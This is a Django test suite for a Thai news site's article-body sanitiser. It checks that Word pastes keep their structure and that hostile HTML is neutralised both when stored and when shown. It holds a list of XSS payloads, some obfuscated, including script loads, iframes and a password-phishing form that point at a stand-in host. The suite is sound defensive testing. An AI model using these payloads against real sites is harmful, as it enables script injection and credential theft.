"""The article body: the admin's WYSIWYG editor, a paste from Word or LINE, and
hostile HTML, neutralised when stored and again when shown (news/sanitize.py)."""

import html
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.urls import reverse
from django_prose_editor.config import allowlist_from_extensions, expand_extensions

from news.models import Article
from news.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, EDITOR_EXTENSIONS, URL_SCHEMES, sanitize_html
from news.templatetags.rich_text import rich_text
from tests.admin_forms import form_data
from tests.factories import make_article

pytestmark = pytest.mark.django_db

WORD_PASTE = (Path(__file__).parent / "data" / "word-paste.html").read_text(encoding="utf-8")

# Each tries a different way to run script, load something, or restyle the page.
XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"  JaVaScRiPt:alert(1)\">spaced</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">tab entity</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">entities</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<p onclick=\"alert(1)\" onmouseover=alert(1)>text</p>",
    "<p style=\"background:url(javascript:alert(1))\">styled</p>",
    "<style>body{display:none}</style>",
    "<object data=\"https://evil.example/x.swf\"></object>",
    "<embed src=\"https://evil.example/x.swf\">",
    "<form action=\"https://evil.example/\"><input name=password><button>go</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<table background=\"javascript:alert(1)\"><tr><td onmouseover=alert(1)>cell</td></tr></table>",
    "<a href=\"https://example.org/\" target=\"_blank\" onfocus=alert(1) autofocus>link</a>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<div><!--<img src=x onerror=alert(1)>--></div>",
    "<a href=\"https://example.org/\" rel=\"opener\">rel kept?</a>",
    "<xml><x:script>alert(1)</x:script></xml>",
]


class Elements(HTMLParser):
    """Every element and attribute in some HTML, as a browser would parse it."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def assert_only_allowed(body):
    """Only the sanitiser's tags and attributes, no handler, style or class, and
    links only to web or mail addresses."""
    for tag, attrs in Elements(body).elements:
        assert tag in ALLOWED_TAGS, (tag, body)
        for name, value in attrs.items():
            allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
            assert name in allowed, (tag, name, body)
            if name == "href":
                assert value.split(":", 1)[0].lower() in URL_SCHEMES, (value, body)
            if name == "rel":
                assert value == "noopener noreferrer nofollow"
    lowered = html.unescape(body).lower()
    for marker in ("<script", "javascript:", "vbscript:", "onerror", "onload", "alert(1)", "evil.example"):
        assert marker not in lowered, (marker, body)


def article_body_html(page):
    """The body as shown on the article page (the div written by article_detail.html)."""
    text = page.content.decode()
    start = text.index('<div class="article-body">') + len('<div class="article-body">')
    return text[start:text.index("</div>", start)]


def post_article(admin_client, body, **changes):
    page = admin_client.get(reverse("admin:news_article_add"))
    data = form_data(
        page, title="ข่าวทดสอบตัวแก้ไขข้อความ", body=body, office=str(make_article().office_id),
        status="published", **changes,
    )
    response = admin_client.post(reverse("admin:news_article_add"), data)
    assert response.status_code == 302, response.content.decode()[:3000]
    return Article.objects.get(title="ข่าวทดสอบตัวแก้ไขข้อความ")


def test_the_admin_change_form_has_the_prose_editor(admin_client):
    """The body is edited in django-prose-editor, configured with our extensions only,
    and its module scripts are on the page."""
    article = make_article()
    page = admin_client.get(reverse("admin:news_article_change", args=[article.pk])).content.decode()
    assert "data-django-prose-editor-configurable" in page
    assert 'name="body"' in page
    assert "django_prose_editor/editor.js" in page and "django_prose_editor/configurable.js" in page
    assert '<script type="importmap"' in page
    assert '"Table"' in html.unescape(page) and '"Image"' not in html.unescape(page)


def test_the_editor_offers_nothing_the_sanitiser_removes():
    """One policy: every tag the configured editor can write is one sanitize_html keeps
    (the editor's own list also names rel and target, which we set or drop)."""
    editor = allowlist_from_extensions(expand_extensions(EDITOR_EXTENSIONS))
    assert editor["tags"] <= ALLOWED_TAGS
    for tag, attributes in editor["attributes"].items():
        assert attributes - {"rel", "target", "type", "data-type"} <= ALLOWED_ATTRIBUTES.get(tag, set()), tag
    assert {"table", "tr", "td", "th", "a", "ul", "ol", "h2", "strong", "em"} <= editor["tags"]


def test_a_word_paste_keeps_its_structure_and_loses_the_word_markup(admin_client):
    """Headings, paragraphs, bold, italic, links, lists and tables survive a paste
    from Word; mso classes and styles, conditional comments, <o:p>, the style sheet,
    the XML settings and images from the editor's disk do not."""
    article = post_article(admin_client, WORD_PASTE)
    body = article.body
    assert_only_allowed(body)
    # Word's "Heading 1" becomes h2: the page's title is its one h1.
    assert "<h2>สพฐ. ประชุมเชิงปฏิบัติการพัฒนาหลักสูตร</h2>" in body
    assert "<h2>ผู้เข้าร่วมประชุม</h2>" in body
    assert "<b>นายอัมพร พินะสา</b>" in body
    assert "<i>ประธานเปิด</i>" in body
    assert '<a href="https://www.obec.go.th/" rel="noopener noreferrer nofollow">สำนักงานคณะกรรมการการศึกษาขั้นพื้นฐาน</a>' in body
    assert "<ul>" in body and "<li>ศึกษานิเทศก์</li>" in body and "<li>ครูผู้สอน</li>" in body
    assert body.count("<tr>") == 2 and body.count("<td>") == 4 and "245" in body
    assert "ผู้อำนวยการสำนักงานเขตพื้นที่การศึกษา" in body and "ภาพ: กลุ่มประชาสัมพันธ์" in body
    for gone in ("mso", "Mso", "o:p", "<!--", "[if", "endif", "font-family", "TH SarabunPSK", "Normal",
                 "AllowPNG", "file:", "clip_image", "<img", "lang=", "class=", "style="):
        assert gone not in body, gone
    page = admin_client.get(article.get_absolute_url())
    assert page.status_code == 200
    shown = article_body_html(page)
    assert_only_allowed(shown)
    assert "<td><p><b>กลุ่ม</b></p></td>" in shown.replace("\n", "").replace("  ", "")


def test_a_line_paste_of_plain_text_becomes_paragraphs(admin_client):
    """A message copied from LINE arrives as lines of text: blank lines are paragraphs."""
    article = post_article(admin_client, "ประชุมคณะทำงาน\nวันนี้ 9.00 น.\n\nณ ห้องประชุม 1 <3 ทุกคน")
    assert article.body == "<p>ประชุมคณะทำงาน<br>วันนี้ 9.00 น.</p>\n\n<p>ณ ห้องประชุม 1 &lt;3 ทุกคน</p>"


def test_an_emptied_editor_is_no_body(admin_client):
    """The editor's empty paragraph counts as nothing: the body is required."""
    page = admin_client.get(reverse("admin:news_article_add"))
    data = form_data(page, title="ข่าวว่าง", body="<p></p>", office=str(make_article().office_id))
    response = admin_client.post(reverse("admin:news_article_add"), data)
    assert response.status_code == 200
    assert not Article.objects.filter(title="ข่าวว่าง").exists()
    assert "body" in response.context["adminform"].form.errors


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_hostile_html_is_neutralised_when_stored_and_when_shown(admin_client, payload):
    """Each payload, posted through the admin form, is stored harmless and the article
    page shows it harmless."""
    article = post_article(admin_client, f"<p>ก่อน</p>{payload}<p>หลัง</p>")
    assert_only_allowed(article.body)
    assert "<p>ก่อน</p>" in article.body
    shown = article_body_html(admin_client.get(article.get_absolute_url()))
    assert_only_allowed(shown)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_rows_written_around_save_are_sanitised_on_output(payload):
    """A body written straight into the table (bulk update, an old import) is still
    cleaned when shown."""
    article = make_article()
    Article.objects.filter(pk=article.pk).update(body=f"<p>ก่อน</p>{payload}")
    article.refresh_from_db()
    assert article.body == f"<p>ก่อน</p>{payload}"
    assert_only_allowed(rich_text(article.body))


def test_sanitiser_keeps_what_editors_write():
    """The editor's output goes through unchanged (apart from link rel)."""
    written = (
        "<h2>หัวข้อ</h2><h3>ย่อย</h3><p><strong>หนา</strong> <em>เอียง</em> <u>ขีดเส้น</u> <s>ขีดฆ่า</s> "
        "H<sub>2</sub>O x<sup>2</sup><br>บรรทัดใหม่</p><ul><li><p>หนึ่ง</p></li></ul>"
        "<ol start=\"3\"><li><p>สาม</p></li></ol><blockquote><p>อ้างอิง</p></blockquote><hr>"
        "<table><tbody><tr><th colspan=\"2\" rowspan=\"1\"><p>หัวตาราง</p></th></tr>"
        "<tr><td colspan=\"1\" rowspan=\"1\"><p>ก</p></td><td><p>ข</p></td></tr></tbody></table>"
        "<p><a href=\"mailto:pr@obec.go.th\">อีเมล</a></p>"
    )
    assert sanitize_html(written) == written.replace(
        '<a href="mailto:pr@obec.go.th">', '<a href="mailto:pr@obec.go.th" rel="noopener noreferrer nofollow">'
    )


@pytest.mark.parametrize("level, kept", [(1, 2), (2, 2), (4, 4), (5, 4), (6, 4)])
def test_word_headings_become_the_nearest_allowed_heading(level, kept):
    assert sanitize_html(f"<h{level} class=MsoHeading>หัวข้อ</h{level}>") == f"<h{kept}>หัวข้อ</h{kept}>"
